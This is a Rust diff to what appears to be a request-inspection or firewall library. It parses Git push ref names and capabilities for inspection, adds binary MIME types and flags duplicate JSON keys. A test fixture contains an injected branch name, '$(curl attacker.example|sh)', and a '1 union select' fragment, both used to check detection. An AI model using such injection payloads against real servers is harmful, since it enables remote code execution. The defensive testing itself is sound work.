@@ -94,6 +94,9 @@ pub(crate) fn parse(
             .unwrap_or_else(|| ct.to_string());
         return structured(parse_multipart(req, &original, body, form, 0));
     }
+    if mime == "application/x-git-receive-pack-request" {
+        git_commands(req, body);
+    }
     if is_binary(mime) {
         // Binary media (gRPC, protobuf, images, archives): not text arguments. Rules that
         // target `BODY` still see the bytes.
@@ -473,7 +476,86 @@ fn is_binary(mime: &str) -> bool {
                 | "cbor"
                 | "x-7z-compressed"
                 | "wasm"
+                // Archives and packages: what a package registry or an artifact
+                // repository is sent (Maven's `.jar`, conda's `.tar.bz2`, `.deb`, `.rpm`)
+                | "java-archive"
+                | "x-java-archive"
+                | "x-bzip2"
+                | "x-bzip"
+                | "x-xz"
+                | "zstd"
+                | "x-zstd"
+                | "x-lzma"
+                | "x-gtar"
+                | "vnd.rar"
+                | "x-rar-compressed"
+                | "x-rpm"
+                | "vnd.debian.binary-package"
+                | "vnd.android.package-archive"
+                | "x-msdownload"
+                | "x-executable"
+                // Git's smart HTTP: pkt-lines, then a packfile
+                | "x-git-upload-pack-request"
+                | "x-git-receive-pack-request"
         )
+}
+
+// === Git ===
+
+/// The most ref updates read from one push.
+const GIT_MAX_COMMANDS: usize = 1000;
+
+/// The ref updates at the start of a `git push` over smart HTTP (`git-receive-pack`): pkt-lines
+/// (four hex digits of length, then the line) of `OLD-ID NEW-ID REFNAME`, the first with a NUL
+/// and the client's capabilities, up to a flush (`0000`); the packfile (binary) follows. Each
+/// ref name is an argument, `BODY:records.git.ref` (servers hand them to hooks and shell
+/// scripts: a branch named `$(curl …)`), and so are the capabilities
+/// (`BODY:records.git.capabilities`). The body itself is a binary upload.
+fn git_commands(req: &mut InspectedRequest, body: &[u8]) {
+    let mut at = 0;
+    for _ in 0..GIT_MAX_COMMANDS {
+        let Some(len) = body
+            .get(at..at + 4)
+            .and_then(|h| std::str::from_utf8(h).ok())
+            .and_then(|h| usize::from_str_radix(h, 16).ok())
+        else {
+            return;
+        };
+        // A flush, or no pkt-line at all.
+        if len < 4 {
+            return;
+        }
+        let Some(line) = body.get(at + 4..at + len) else {
+            return;
+        };
+        at += len;
+        let line = line.strip_suffix(b"\n").unwrap_or(line);
+        let (command, capabilities) = match memchr::memchr(0, line) {
+            Some(nul) => (
+                line.get(..nul).unwrap_or_default(),
+                line.get(nul + 1..).unwrap_or_default(),
+            ),
+            None => (line, &[][..]),
+        };
+        let mut fields = command.splitn(3, |&b| b == b' ');
+        let (Some(_old), Some(_new), Some(name)) = (fields.next(), fields.next(), fields.next())
+        else {
+            return;
+        };
+        if !req.push_body_arg(Origin::Records, "git.ref", Some(b"ref"), name) {
+            return;
+        }
+        if !capabilities.is_empty()
+            && !req.push_body_arg(
+                Origin::Records,
+                "git.capabilities",
+                Some(b"capabilities"),
+                capabilities,
+            )
+        {
+            return;
+        }
+    }
 }
 
 // === urlencoded ===
@@ -1220,6 +1302,9 @@ impl<'t> JsonWalk<'t, '_> {
                 .get(e)
                 .is_some_and(|&(k2, _)| key_cmp(k2, k).is_eq())
             {
+                if !self.dropped {
+                    req.add_anomaly(Anomaly::JsonDuplicateKey);
+                }
                 self.dropped = true;
                 continue;
             }
@@ -1809,11 +1894,19 @@ fn base64_text(
     if value.len() < min_value || !value.iter().all(fits) {
         return None;
     }
-    let text: Vec<u8> = value
-        .iter()
-        .filter(|&&b| b != b'\r' && b != b'\n')
-        .map(|&b| if b == b' ' { b'+' } else { b })
-        .collect();
+    // Copied only when line breaks or spaces must go (most values have none).
+    let text: Cow<'_, [u8]> = if value.iter().any(|&b| matches!(b, b'\r' | b'\n' | b' ')) {
+        let mut t = Vec::with_capacity(value.len());
+        t.extend(
+            value
+                .iter()
+                .filter(|&&b| b != b'\r' && b != b'\n')
+                .map(|&b| if b == b' ' { b'+' } else { b }),
+        );
+        Cow::Owned(t)
+    } else {
+        Cow::Borrowed(value)
+    };
     // (A run of letters and digits alone is an identifier or a hash as often as base64: it
     // must decode to text, which hex and random tokens do not.)
     let decoded = crate::normalize::decode_base64(&text)?;
@@ -4388,6 +4481,38 @@ mod tests {
     }
 
     #[test]
+    fn git_push_ref_names_are_arguments() {
+        let line = |s: &str| format!("{:04x}{s}", s.len() + 4);
+        let zero = "0".repeat(40);
+        let body = format!(
+            "{}{}0000PACK\u{0}\u{0}\u{0}\u{2}",
+            line(&format!("{zero} 1111111111111111111111111111111111111111 refs/heads/main\u{0} report-status side-band-64k agent=git/2.47.1\n")),
+            line(&format!("{zero} 2222222222222222222222222222222222222222 refs/heads/$(curl attacker.example|sh)\n")),
+        );
+        let req = post("application/x-git-receive-pack-request", &body);
+        let args = values(&req, Part::ArgPost);
+        assert_eq!(
+            args,
+            [
+                ("BODY:records.git.ref".into(), "refs/heads/main".into()),
+                (
+                    "BODY:records.git.capabilities".into(),
+                    " report-status side-band-64k agent=git/2.47.1".into()
+                ),
+                (
+                    "BODY:records.git.ref".into(),
+                    "refs/heads/$(curl attacker.example|sh)".into()
+                ),
+            ]
+        );
+        // The body is a binary upload: its NUL bytes are the format's.
+        assert_eq!(values(&req, Part::BodyBinary).len(), 1);
+        // Not pkt-lines: nothing.
+        let req = post("application/x-git-receive-pack-request", "zzzz\u{0}PACK");
+        assert!(values(&req, Part::ArgPost).is_empty());
+    }
+
+    #[test]
     fn binary_types_are_not_arguments() {
         for ct in [
             "application/grpc",
@@ -4397,6 +4522,9 @@ mod tests {
             "application/offset+octet-stream",
             "application/vnd.ms-sync.wbxml",
             "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
+            "application/java-archive",
+            "application/x-bzip2",
+            "application/x-git-receive-pack-request",
         ] {
             let req = post(ct, "\u{0}\u{0}1 union select");
             assert!(values(&req, Part::ArgPost).is_empty(), "{ct}");
